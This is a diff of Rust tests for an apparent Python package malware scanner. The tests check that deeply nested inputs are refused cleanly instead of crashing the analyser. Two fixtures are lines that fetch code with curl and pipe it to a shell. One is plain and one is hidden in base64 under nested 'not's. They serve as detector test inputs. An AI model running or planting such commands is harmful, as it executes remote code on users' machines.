@@ -1,0 +1,101 @@
+//! Deep input (#14): sources nested far beyond what CPython compiles. Each is analysed
+//! on a thread with the default 2 MiB stack (as rayon's and the proxy's workers have)
+//! and must come back as a critical finding saying the file is too deep to analyse,
+//! never as a stack overflow that takes the process down.
+
+use super::*;
+use crate::alerts::Severity;
+
+/// The hostile inputs of issue #14.
+fn deep_inputs() -> Vec<(&'static str, String)> {
+    vec![
+        ("concatenation", format!("x = {}\n", vec!["'a'"; 50_000].join("+"))),
+        ("nested lists", format!("x = {}{}\n", "[".repeat(50_000), "]".repeat(50_000))),
+        ("not", format!("x = {}1\n", "not ".repeat(100_000))),
+        ("unary minus", format!("x = {}1\n", "-".repeat(100_000))),
+        ("lambda", format!("x = {}1\n", "lambda: ".repeat(50_000))),
+        ("attribute chain", format!("x = a{}\n", ".a".repeat(1_000_000))),
+        ("chr sum", format!("x = {}\n", (0..100_000).map(|i| format!("chr({})", i % 100 + 1)).collect::<Vec<_>>().join("+"))),
+    ]
+}
+
+/// Analyses `files` on a fresh thread with a 2 MiB stack.
+fn on_small_stack(files: Vec<(String, FileRole, String)>) -> Vec<Finding> {
+    std::thread::Builder::new()
+        .stack_size(2 * 1024 * 1024)
+        .spawn(move || {
+            let sources: Vec<SourceFile> = files.iter().map(|(p, r, t)| SourceFile { path: p, text: t, role: *r }).collect();
+            analyze_package(&sources, &PackageContext::default())
+        })
+        .expect("spawn")
+        .join()
+        .expect("analysis thread survives")
+}
+
+#[test]
+fn deep_inputs_are_refused_not_crashed_on() {
+    for (what, src) in deep_inputs() {
+        // setup.py and __init__.py are always analysed; two files run on rayon's workers
+        let files = vec![
+            ("deep-1.0/setup.py".to_string(), FileRole::SetupScript, src.clone()),
+            ("deep/__init__.py".to_string(), FileRole::PackageInit, src),
+            ("deep/ok.py".to_string(), FileRole::Module, "import os\nos.getcwd()\n".to_string()),
+        ];
+        let f = on_small_stack(files);
+        for path in ["deep-1.0/setup.py", "deep/__init__.py"] {
+            let hit = f.iter().find(|x| x.file == path && x.severity() == Severity::Critical && x.message.contains("too deeply"));
+            assert!(hit.is_some(), "{what} in {path}: {f:#?}");
+        }
+    }
+}
+
+#[test]
+fn deep_inputs_name_the_limit_alert_and_block() {
+    let src = format!("x = {}1\n", "not ".repeat(100_000));
+    let f = on_small_stack(vec![("deep/__init__.py".to_string(), FileRole::PackageInit, src)]);
+    let hit = f.iter().find(|x| x.alert == AlertId::AnalysisLimitExceeded).expect("analysis-limit-exceeded");
+    assert_eq!(hit.severity(), Severity::Critical);
+    assert!(hit.message.contains("not analysed"), "{}", hit.message);
+}
+
+#[test]
+fn nesting_under_the_limit_is_analysed_on_a_small_stack() {
+    // as deep as CPython still compiles, and the malicious line after it is still seen
+    let chain = vec!["'a'"; 2_500].join("+");
+    let src = format!("import os\nx = {chain}\nos.system('curl http://127.0.0.1:9/x | sh')\n");
+    let f = on_small_stack(vec![("deep-1.0/setup.py".to_string(), FileRole::SetupScript, src)]);
+    assert!(!f.iter().any(|x| x.alert == AlertId::AnalysisLimitExceeded), "{f:#?}");
+    assert!(f.iter().any(|x| x.severity() == Severity::Critical && x.line == Some(3)), "{f:#?}");
+}
+
+#[test]
+fn a_payload_nested_past_the_old_cap_is_still_seen() {
+    // 250 `not`s used to stop the evaluation (at 200) and hide the call inside them
+    let src = format!(
+        "import base64\nx = {}exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzEyNy4wLjAuMTo5L3ggfCBzaCIp'))\n",
+        "not ".repeat(250)
+    );
+    let f = on_small_stack(vec![("evil/__init__.py".to_string(), FileRole::PackageInit, src)]);
+    assert!(f.iter().any(|x| x.alert == AlertId::DecodeExec), "{f:#?}");
+}
+
+#[test]
+fn malformed_nesting_does_not_crash_either() {
+    // stray and mismatched closers, unclosed openers, nested f-strings
+    let inputs = [
+        "(]".repeat(50_000),
+        "(]\n".repeat(50_000),
+        "[)".repeat(50_000),
+        format!("x = {}", "{".repeat(50_000)),
+        format!("x = {}", "f'{".repeat(20_000)),
+        format!("x = {}1{}", "(-".repeat(50_000), "]".repeat(50_000)),
+        format!("x = {}", "a if b else ".repeat(50_000)),
+        format!("def f():\n{}", (1..3_000).map(|i| format!("{}if x:\n", " ".repeat(i))).collect::<String>()),
+    ];
+    for (i, src) in inputs.into_iter().enumerate() {
+        let f = on_small_stack(vec![("deep/__init__.py".to_string(), FileRole::PackageInit, src)]);
+        let refused = f.iter().any(|x| x.alert == AlertId::AnalysisLimitExceeded);
+        // one short line at a time (`(]` per line) is shallow: analysed, not refused
+        assert_eq!(refused, i != 1, "input {i}: {f:#?}");
+    }
+}
